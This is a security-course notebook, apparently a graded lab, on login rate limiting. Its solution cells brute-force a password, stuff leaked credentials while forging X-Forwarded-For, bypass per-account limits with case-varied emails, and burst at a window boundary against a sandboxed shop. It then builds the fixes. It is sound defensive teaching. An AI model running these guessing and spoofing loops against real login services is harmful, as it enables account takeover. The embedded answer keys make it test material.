# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 11 · Rate limiting — brute force and fairness
#
# *Workflow step 7: add rate limiting.* Standards: [OWASP Authentication Cheat
# Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Authentication_Cheat_Sheet.html)
# (§ Protect against automated attacks), [OWASP Credential Stuffing Prevention Cheat
# Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Credential_Stuffing_Prevention_Cheat_Sheet.html),
# OWASP ASVS 5.0 V6.3.1 (anti-automation on authentication) and V2.4 (anti-automation),
# [RFC 6585 §4](https://www.rfc-editor.org/rfc/rfc6585#section-4) (429 Too Many Requests),
# [RFC 9110 §10.2.3](https://www.rfc-editor.org/rfc/rfc9110#section-10.2.3) (`Retry-After`),
# and the IETF draft [draft-ietf-httpapi-ratelimit-headers-10](https://datatracker.ietf.org/doc/draft-ietf-httpapi-ratelimit-headers/10/)
# (the `RateLimit-Policy` and `RateLimit` fields).
#
# The lab app is a shop whose login **nobody throttles**. After you break in, the team deploys
# a hot-fix to a staging server — the seed's express-rate-limit recipe, translated quickly — and
# you break that too, four different ways. Then you write the limiter that holds.

# %%
import matplotlib.pyplot as plt

import labkit
from labkit.attacks import bruteforce
from labkit.wordlists import common_passwords

lab = labkit.open_lab("11-rate-limiting")
staging = bruteforce.client_from(lab.urls["staging"])
lab

# %% [markdown]
# ## Learn
#
# A password hash (lab 01) protects a *stolen* table from offline guessing. Online, the login
# itself is the oracle: every request is one guess, and nothing but a **rate limit** stops an
# attacker from asking a million times. The seed's recipe:
#
# ```ts
# app.use(rateLimit({ windowMs: 15 * 60 * 1000, max: 100, standardHeaders: true,
#                     store: new RedisStore({ ... }) }));
# app.use("/api/auth/login", rateLimit({ windowMs: 15 * 60 * 1000, max: 5,
#                     message: { error: "Too many login attempts. Try again later." } }));
# app.use("/api/v1/", rateLimit({ windowMs: 60 * 1000, max: 60,
#                     keyGenerator: (req) => req.apiClient?.id || req.ip }));
# ```
#
# Every line hides a decision that attackers probe:
#
# - **What is counted — the key.** Per IP stops one machine trying many accounts
#   (*credential stuffing*); per account stops many machines guessing one account (a botnet).
#   A login needs both. The account key must be the identity the login resolves.
# - **Who the client is.** Behind a reverse proxy every request comes from the proxy; the
#   proxy writes the real client into `X-Forwarded-For`. Only *your* proxy's entry is true —
#   the rest is whatever the client wrote.
# - **How time is cut.** A *fixed* window resets its counter at the boundary; a *moving*
#   window counts the requests of the last N seconds, whenever you ask.
# - **Where counts live.** In one process's memory, or in a store every process shares.
# - **What the client is told.** 429, `Retry-After`, and the RateLimit fields.
#
# This shop's policies, as the seed: logins **5 per 15 minutes per IP and per account**,
# everything **100 per 15 minutes per IP**, `GET /api/v1/items` **60 per minute per API client**.

# %% [markdown]
# ## Attack 1 — guess carol's password
#
# carol is the one account whose password you do not know (`lab.users` lists the others). The
# shop's login has no limit at all. Write the guessing loop yourself with `lab.client` (an
# `httpx.Client`): `POST /api/auth/login` with `{"email": ..., "password": ...}` for each word of
# the wordlist — the 300 most common passwords — and stop at the first 200 (or at a 429: then
# someone is counting). Store her password in `carol_password`.

# %% labkit={"answer": "brute-force"}
words = common_passwords(300)
### BEGIN SOLUTION
carol_password = None
for tries, word in enumerate(words, 1):
    response = lab.client.post(
        "/api/auth/login", json={"email": "carol@example.com", "password": word}
    )
    if response.status_code in (200, 429):
        carol_password = word if response.status_code == 200 else None
        print(f"{tries} guesses: {response.status_code}")
        break
### STUB
carol_password = None  # TODO: try each word as carol's password until one logs in
### END SOLUTION
carol_password

# %% labkit={"check": "brute-force"}
lab.check("brute-force", carol_password)

# %% [markdown]
# A few hundred requests in well under a second. A real attacker has the 30,000-word list, and
# all night.
#
# ## Attack 2 — credential stuffing on staging
#
# Staging limits logins 5 per 15 minutes, per IP and per account. Another site's breach is
# public (`/api/_lab/leaked-credentials`): people reuse passwords, so try each pair **once**.
# From one address, the per-IP limit stops you quickly:

# %%
leak = staging.get("/api/_lab/leaked-credentials").json()
print(len(leak), "leaked pairs, e.g.", leak[0])
_, statuses = bruteforce.stuff_credentials(staging, leak)
statuses

# %% [markdown]
# Now look at how staging decides *who you are*: it reads `X-Forwarded-For` — from anyone,
# taking the first entry. So send each pair once, with a different address in an
# `X-Forwarded-For` header every time (documentation addresses from RFC 5737, such as
# `203.0.113.1`–`203.0.113.254`, belong to no one; `fake_ip()` below hands out each once).
# Store the pairs that log in in `stuffed`, a list of `(email, password)`.

# %% labkit={"answer": "credential-stuffing"}
import random
from collections import Counter

DOC_NETS = ("192.0.2", "198.51.100", "203.0.113")  # RFC 5737: documentation only
unused: list[str] = []


def fake_ip() -> str:
    """A documentation address not sent before (a repeat would meet its own per-IP count)."""
    if not unused:  # all 762 used: start over, in a new order
        unused.extend(f"{net}.{n}" for net in DOC_NETS for n in range(1, 255))
        random.shuffle(unused)
    return unused.pop()


### BEGIN SOLUTION
stuffed, statuses = [], Counter()
for email, password in leak:
    response = staging.post(
        "/api/auth/login",
        json={"email": email, "password": password},
        headers={"X-Forwarded-For": fake_ip()},
    )
    statuses[response.status_code] += 1
    if response.status_code == 200:
        stuffed.append((email, password))
### STUB
stuffed, statuses = [], Counter()  # TODO: try each leaked pair once, each from a new address
### END SOLUTION
print(statuses)
stuffed

# %% labkit={"check": "credential-stuffing"}
lab.check("credential-stuffing", stuffed)

# %% [markdown]
# Note what the per-*account* limit did here: nothing. Each account was tried once.
#
# ## Attack 3 — the same account, spelled differently
#
# carol has a different (also common) password on staging. Rotating your address is not
# enough now — the per-account limit counts her attempts:

# %%
bruteforce.brute_force(staging, "carol@example.com", words, rotate_ip=True)

# %% [markdown]
# But the login finds `Carol@Example.com` just as well (emails are compared without case),
# while the limiter counts attempts per account *as typed*. Write `attack(client)`: your
# guessing loop from Attack 1 over `words`, now with a fresh `X-Forwarded-For` on every guess
# **and** a new spelling of carol's email (random upper/lower case) at least every 4 guesses,
# returning the password that logs in — or `None` when the loop ends or a 429 stops it. Store
# carol's staging password in `staging_password`. (You will replay this very function
# against your own limiter at the end.)


# %% labkit={"answer": "case-variants"}
def attack(client) -> str | None:
    """Guess carol's password on ``client``'s shop; the password, or None if stopped."""
    ### BEGIN SOLUTION
    for word in words:
        email = "".join(c.upper() if random.random() < 0.5 else c for c in "carol@example.com")
        response = client.post(
            "/api/auth/login",
            json={"email": email, "password": word},
            headers={"X-Forwarded-For": fake_ip()},
        )
        if response.status_code == 200:
            return word
        if response.status_code == 429:
            print("stopped by a 429, Retry-After:", response.headers.get("retry-after"))
            return None
    return None
    ### STUB
    return None  # TODO: Attack 1's loop, with a new X-Forwarded-For and a new spelling of the email
    ### END SOLUTION


staging_password = attack(staging)
staging_password

# %% labkit={"check": "case-variants"}
lab.check("case-variants", staging_password)

# %% [markdown]
# ## Attack 4 — two processes, twice the attempts
#
# Production runs several app processes (uvicorn workers, containers, hosts) behind a load
# balancer. A limiter that counts in process memory counts *per process*. Below, two real
# uvicorn processes run the shop with the **reference** limiter — once counting in memory, once
# in one Redis both share — and twelve guesses at carol go round-robin to the pair. (This is a
# demonstration, not a check: your functions live in this kernel and cannot be handed to other
# processes; `tests/test_ratelimit_processes.py` proves the same thing in CI.)

# %%
from labkit.sandbox.apps.ratelimit import private_redis, serve_processes

allowed = {}
with private_redis() as redis_url:
    groups = {"memory, 2 processes": None}
    if redis_url:
        groups["one Redis, 2 processes"] = redis_url
    else:
        print("redis-server is not installed here: showing the in-memory half only.")
    with serve_processes(groups) as urls:
        for name, pair in urls.items():
            clients = [bruteforce.client_from(url) for url in pair]
            results = bruteforce.spread_attempts(clients, "carol@example.com", 12)
            allowed[name] = sum(status != 429 for _, status in results)
            for client in clients:
                client.close()
for name, count in allowed.items():
    print(f"{name:<24} {count} of 12 guesses answered (limit 5)")

# %% [markdown]
# In memory, each process grants its own 5: N processes, N × 5 guesses. Sharing one Redis, the
# processes enforce one limit. That is why the seed passes `store: new RedisStore(...)`.
#
# ## Attack 5 — a burst at the window boundary
#
# Staging counts in **fixed windows**: a counter that starts with your first request and is
# forgotten when the window ends. `/api/_lab/burst` is `/api/v1/items` with the window shrunk to
# 1 second (10 requests per second), so you need not wait a minute. Spend most of the quota just
# before the boundary and a full quota just after it: one request opens the window, wait half
# a second (`time.sleep`), send 9 more; then keep asking until the server lets one through again
# (the boundary: it started counting when *it* saw your first request) and send 9 more at once.
# Record `(seconds since the first request, status)` for every request in `events`: the plot
# below draws them. Send the API key below as `X-API-Key`; hand in that key as `burst_key`.

# %% labkit={"answer": "window-burst"}
burst_key = staging.post("/api/_lab/api-clients").json()["apiKey"]
import time


def burst(client, api_key: str) -> list[tuple[float, int]]:
    """10 requests late in one 1-second window and 10 right after its boundary."""
    ### BEGIN SOLUTION
    events, start = [], time.monotonic()

    def send() -> int:
        status = client.get("/api/_lab/burst", headers={"X-API-Key": api_key}).status_code
        events.append((time.monotonic() - start, status))
        return status

    send()  # opens the window
    time.sleep(0.5)
    for _ in range(9):
        send()
    time.sleep(max(0.0, 1.0 - (time.monotonic() - start)))
    while send() == 429 and time.monotonic() - start < 2.0:  # the window is still on
        time.sleep(0.02)
    for _ in range(9):
        send()
    return events
    ### STUB
    return []  # TODO: (seconds since start, status) for every request you sent
    ### END SOLUTION


events = burst(staging, burst_key)
print(sum(status != 429 for _, status in events), "of", len(events), "requests allowed")

# %% labkit={"check": "window-burst"}
lab.check("window-burst", burst_key)


# %%
def plot_allowed(runs: dict, limit: int = 10, window: float = 1.0) -> None:
    """Requests allowed in the trailing window, over time, for each run."""
    _, ax = plt.subplots(figsize=(6.5, 3))
    for label, run in runs.items():
        ok = sorted(t for t, status in run if status != 429)
        counts = [sum(1 for u in ok if t - window < u <= t) for t in ok]
        ax.step(ok, counts, where="post", label=label, linewidth=2)
    ax.axhline(limit, color="#cf222e", linestyle="--", label=f"limit: {limit} per {window:g} s")
    ax.set_xlabel("seconds since the first request")
    ax.set_ylabel(f"allowed in the last {window:g} s")
    ax.set_title("Burst at a window boundary")
    ax.legend(loc="upper left")
    plt.tight_layout()
    plt.show()


print(f"at most {bruteforce.allowed_per_window(events, 1)} requests allowed within 1 s (limit 10)")
plot_allowed({"fixed window (staging)": events})

# %% [markdown]
# Nearly twice the limit within about half a second: the fixed window forgot the first burst the
# moment the boundary passed.
#
# ## Fix 1 — who is the client?
#
# Write `client_ip(peer, forwarded_for, trusted_proxies) -> str`: `peer` is the address of the
# TCP connection, `forwarded_for` the `X-Forwarded-For` header (or `None`), `trusted_proxies`
# the addresses of the shop's own proxies (here `{"127.0.0.2"}`; the check plays the proxy by
# connecting from that address). A proxy *appends* the address it received the request from,
# so only the rightmost entries are your proxies' work:
#
# - the peer is not a trusted proxy → the header is the client's claim: return `peer`;
# - otherwise walk the entries from the right, skip trusted proxies, return the first other
#   address (an entry that is not an IP address at all is best answered with `peer`).
#
# The app hands you every `X-Forwarded-For` line of the request joined by commas, in order
# (several lines are one list, RFC 9110 §5.3): the proxy's own entry is still the rightmost.
# Ignoring the header altogether is not a fix: every customer behind the proxy would then
# share one quota.
#
# <!-- labkit:rules trusted-proxy -->

# %% labkit={"answer": "trusted-proxy"}
import ipaddress


def client_ip(peer: str, forwarded_for: str | None, trusted_proxies) -> str:
    ### BEGIN SOLUTION
    if not forwarded_for or peer not in trusted_proxies:
        return peer
    for hop in reversed([h.strip() for h in forwarded_for.split(",") if h.strip()]):
        if hop not in trusted_proxies:
            try:
                return str(ipaddress.ip_address(hop))
            except ValueError:
                return peer
    return peer
    ### END SOLUTION


# %% labkit={"check": "trusted-proxy"}
lab.check("trusted-proxy", client_ip=client_ip)

# %% [markdown]
# ## Fix 2 — what is counted?
#
# Write `login_keys(ip, email) -> list[str]` (any sequence of strings will do: a tuple too):
# the keys one login attempt counts against; the app limits each to 5 per 15 minutes. One for
# the client IP, one for the account — prefixed so the two kinds never meet — and the account
# as the login resolves it: the login ignores case and surrounding whitespace, so
# ` Carol@Example.com` is carol (`strip()` and `casefold()`). Every attempt counts, a
# successful one too (as the seed's express-rate-limit does by default).
#
# <!-- labkit:rules login-limit account-case -->


# %% labkit={"answer": "login-limit"}
def login_keys(ip: str, email: str) -> list[str]:
    ### BEGIN SOLUTION
    return [f"ip:{ip}", f"account:{email.strip().casefold()}"]
    ### END SOLUTION


# %% labkit={"check": "login-limit"}
lab.check("login-limit", login_keys=login_keys)

# %% labkit={"check": "account-case"}
lab.check("account-case", login_keys=login_keys)

# %% [markdown]
# A per-account limit has a price: anyone can lock carol out for 15 minutes with five wrong
# guesses. OWASP's Authentication Cheat Sheet discusses the trade-off; common answers are
# counting failures only, a CAPTCHA or a second factor after a few failures, and letting
# known devices (a cookie from an earlier successful login) through.
#
# ## Fix 3 — tell the client
#
# Write `rate_limit_headers(policy, quota, window, remaining, reset, refused) -> dict` with the
# fields of draft-ietf-httpapi-ratelimit-headers-10 — the policy name as a quoted string, `q` the
# quota, `w` the window, `r` the remaining quota, `t` the seconds until it resets (never a
# timestamp):
#
# ```
# RateLimit-Policy: "login";q=5;w=900
# RateLimit: "login";r=4;t=900
# ```
#
# and, when `refused`, `Retry-After` with the same number of seconds as `t` (RFC 9110 also
# allows an HTTP-date there). (The seed's express-rate-limit `standardHeaders: true` sends the
# older draft-6 trio `RateLimit-Limit` / `-Remaining` / `-Reset`; the current drafts replaced
# them.)
#
# <!-- labkit:rules headers -->


# %% labkit={"answer": "headers"}
def rate_limit_headers(
    policy: str, quota: int, window: int, remaining: int, reset: int, refused: bool
) -> dict:
    ### BEGIN SOLUTION
    headers = {
        "RateLimit-Policy": f'"{policy}";q={quota};w={window}',
        "RateLimit": f'"{policy}";r={remaining};t={reset}',
    }
    if refused:
        headers["Retry-After"] = str(max(1, reset))
    return headers
    ### END SOLUTION


# %% labkit={"check": "headers"}
lab.check("headers", rate_limit_headers=rate_limit_headers)

# %% [markdown]
# ## Fix 4 — a moving window, in shared storage
#
# Write `new_limiter(storage_uri)`: a limiter from the
# [`limits`](https://limits.readthedocs.io/) library. The app hands you `memory://`, or the
# Redis URL of `LABKIT_REDIS_URL` when several processes must share counters — so open that,
# never a private `MemoryStorage()`. Choose the moving window.
#
# The check runs two *replicas* of your shop, each with its own limiter built by your
# `new_limiter` from one storage URI — the Redis URL, or without Redis `labkit-memory://…`, a
# store the two replicas in this kernel share, standing in for Redis — and alternates guesses
# between them: they must enforce one limit.
#
# <!-- labkit:rules moving-window -->

# %% labkit={"answer": "moving-window"}
from limits.storage import storage_from_string
from limits.strategies import MovingWindowRateLimiter


def new_limiter(storage_uri: str):
    ### BEGIN SOLUTION
    return MovingWindowRateLimiter(storage_from_string(storage_uri))
    ### END SOLUTION


# %% labkit={"check": "moving-window"}
lab.check("moving-window", new_limiter=new_limiter)

# %% [markdown]
# The same burst against your limiter, next to staging's:

# %%
moving = []
try:
    fixed_app = lab.patched(new_limiter=new_limiter)
except Exception as exc:  # new_limiter not written yet
    print(f"(your limiter could not start: {exc})")
else:
    with bruteforce.client_from(fixed_app.url) as mine:
        moving = burst(mine, mine.post("/api/_lab/api-clients").json()["apiKey"])
plot_allowed({"fixed window (staging)": events, "moving window (yours)": moving})

# %% [markdown]
# ## Verify — replay every attack
#
# Your four functions together are the shop's new limiter. The check replays every attack of
# this lab against them — guessing one account from many addresses, stuffing many accounts
# from one, case-changed emails, forged `X-Forwarded-For` straight to the app and through the
# proxy, the headers on 401, 429 and `/api/v1/items`, the window-boundary burst, and guesses
# alternating between two replicas — while real customers behind the proxy log in.
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
lab.check(
    "verify",
    client_ip=client_ip,
    login_keys=login_keys,
    new_limiter=new_limiter,
    rate_limit_headers=rate_limit_headers,
)

# %% [markdown]
# ## Your own attack, against your limiter
#
# `attack` from Attack 3 — fresh addresses, new spellings — cracked staging. Here it runs
# unchanged against the shop with your four functions (the same wordlist, and carol's password
# is in it):

# %%
try:
    fixed_app = lab.patched(
        client_ip=client_ip,
        login_keys=login_keys,
        new_limiter=new_limiter,
        rate_limit_headers=rate_limit_headers,
    )
except Exception as exc:  # a fix not written yet
    print(f"(your limiter could not start: {exc})")
else:
    if staging_password is None:
        print("write attack() in Attack 3 first")
    else:
        with bruteforce.client_from(fixed_app.url) as mine:
            replayed = attack(mine)
        print("your exploit from Attack 3:", "still logs in!" if replayed else "now refused")

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | No rate limiting on auth | Strict rate limits on login/register |
#
# What a reviewer looks for in real code:
#
# - a limit on every authentication route, keyed **per IP and per account**, the account
#   normalised exactly as the login normalises it;
# - `X-Forwarded-For` (or `Forwarded`, RFC 7239) honoured only from configured proxies, read
#   from the right — and the server's own proxy-header option set to match (uvicorn's
#   `--forwarded-allow-ips`, Express's `trust proxy`);
# - a moving window (or a token bucket), not a fixed window, where bursts matter;
# - counters in a store all instances share (Redis), not process memory, as soon as there is
#   more than one process;
# - 429 with `Retry-After`, the RateLimit fields, and the seed's error body;
# - and the other half from lab 01: a slow password hash, for when the table leaks anyway.

# %%
staging.close()
labkit.progress()

# %%
lab.close()
